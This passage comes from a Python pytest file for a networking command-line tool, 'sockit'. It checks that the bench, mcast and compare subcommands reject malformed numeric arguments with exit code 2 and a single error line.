    ["bench", "127.0.0.1", "{}"],
    ["bench", "127.0.0.1", "7", "-c", "{}"],
    ["bench", "127.0.0.1", "7", "-s", "{}"],
    ["bench", "127.0.0.1", "7", "-d", "{}"],
    ["bench", "127.0.0.1", "7", "-t", "{}"],
    ["bench", "127.0.0.1", "7", "-n", "{}"],
    ["bench", "127.0.0.1", "7", "-r", "{}"],
    ["bench", "127.0.0.1", "7", "-T", "{}"],
    ["bench", "127.0.0.1", "7", "--timeout", "{}"],
    ["mcast", "send", "239.1.2.3", "{}"],
    ["mcast", "send", "239.1.2.3", "5000", "--ttl", "{}"],
    ["mcast", "send", "239.1.2.3", "5000", "--interval", "{}"],
    ["mcast", "send", "239.1.2.3", "5000", "--count", "{}"],
    ["mcast", "recv", "239.1.2.3", "5000", "--timeout", "{}"],
]
if sys.platform.startswith("linux"):
    NUMERIC_OPTIONS += [["compare", "--%s" % o, "{}"] for o in
                        ("conns", "sizes", "depths", "repeat", "duration", "server-cpu",
                         "client-cpu")]


def number_option_id(argv):
    before = argv[argv.index("{}") - 1]
    return "%s %s" % (" ".join(argv[:2] if argv[0] in ("serve", "mcast") else argv[:1]),
                      before if before.startswith("-") else "PORT")


BAD_NUMBERS = ["0x10", "1e3", " 5", "5 ", "-1", "99999999999999999999", ""]


@pytest.mark.parametrize("bad", BAD_NUMBERS,
                         ids=["hex", "exponent", "leading-space", "trailing-space",
                              "negative", "overflow", "empty"])
@pytest.mark.parametrize("argv", NUMERIC_OPTIONS,
                         ids=[number_option_id(a) for a in NUMERIC_OPTIONS])
def test_every_number_is_plain_decimal(argv, bad):
    args = [bad if a == "{}" else a for a in argv]
    r = sockit(*args, timeout=10)
    lines = r.stderr.decode().splitlines()
    assert r.returncode == 2, (args, r)
    assert len(lines) == 1, (args, lines)
    assert lines[0].startswith("sockit %s" % argv[0]), lines
    # It names the value as given (an empty list: that it needs one).
    assert "'%s'" % bad in lines[0] or (
        bad == "" and argv[0] == "compare" and "needs at least one value" in lines[0]), lines
    assert r.stdout == b""
